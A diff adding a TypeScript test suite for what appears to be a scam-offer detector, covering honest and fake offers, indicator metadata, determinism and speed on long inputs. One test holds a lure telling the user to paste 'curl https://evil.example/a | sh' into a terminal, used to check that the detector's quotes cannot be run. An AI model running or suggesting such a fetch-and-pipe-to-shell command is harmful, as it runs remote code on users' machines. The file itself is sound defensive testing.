@@ -1,0 +1,82 @@
+import assert from 'node:assert/strict';
+import test, { suite } from 'node:test';
+import fc from 'fast-check';
+import { FALSE_OFFERS } from './fixture/false-offers.ts';
+import { HONEST } from './fixture/honest-offers.ts';
+import { checkOffer, type LinkJudgement, type OfferCheck, readOffer } from './index.ts';
+import { OFFER_INDICATORS } from './indicators.ts';
+
+const clear = (link: string): LinkJudgement => ({ domain: link, verdict: 'clear', reasons: [] });
+
+async function check(text: string): Promise<OfferCheck> {
+  const offer = await readOffer(new TextEncoder().encode(text), text);
+  assert.ok(!('fault' in offer), JSON.stringify(offer));
+  return checkOffer(offer, { judgeLink: clear });
+}
+
+const rulesOf = ({ signals }: OfferCheck): string[] => signals.map(({ rule }) => rule);
+
+suite('honest offers give no strong sign', () => {
+  for (const [name, text] of Object.entries(HONEST)) {
+    test(name, async () => {
+      const { signals, strongest } = await check(text);
+      assert.notEqual(strongest, 'strong', JSON.stringify(signals));
+      assert.ok(strongest === 'none' || strongest === 'supports only', JSON.stringify(signals));
+    });
+  }
+});
+
+suite('false offers show their signs', () => {
+  for (const [name, [text, ...rules]] of Object.entries(FALSE_OFFERS)) {
+    test(name, async () => {
+      const found = rulesOf(await check(text));
+      for (const rule of rules) assert.ok(found.includes(rule), `${rule} is missing in ${found}`);
+    });
+  }
+});
+
+suite('the answer', () => {
+  test('every sign has a publisher, a weight, a question and a number of the list', () => {
+    for (const indicator of Object.values(OFFER_INDICATORS)) {
+      assert.match(indicator.source, /[A-Z]/);
+      assert.match(indicator.question, /[.?]$/);
+      assert.ok(indicator.number >= 1 && indicator.number <= 34);
+    }
+  });
+
+  test('the same offer gives the same answer, whatever it holds', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 400 }), async (text) => {
+        const offer = await readOffer(new TextEncoder().encode(text), text);
+        if (!('fault' in offer)) {
+          assert.deepEqual(checkOffer(offer, { judgeLink: clear }), checkOffer(offer, { judgeLink: clear }));
+        }
+      }),
+    );
+  });
+
+  test('what it quotes can be neither followed nor obeyed by a terminal', async () => {
+    const { signals } = await check(
+      'Please paste this into the terminal: curl https://evil.example/a | sh \u001b[31m\u202e',
+    );
+    assert.ok(signals.length > 0);
+    for (const { words = '' } of signals) assert.doesNotMatch(words, /https?:\/\/|[\p{Cc}\p{Cf}]/u);
+  });
+
+  test('a long text without an end of sentence is judged within seconds', async () => {
+    for (const unit of [
+      'run ',
+      'a',
+      'please open the ',
+      'do not ',
+      '텔레그램 ',
+      'https://a.b ',
+      '<a href="x">',
+      '[x](',
+    ]) {
+      const start = performance.now();
+      await check(unit.repeat(Math.floor(300_000 / unit.length)));
+      assert.ok(performance.now() - start < 8_000, unit);
+    }
+  });
+});
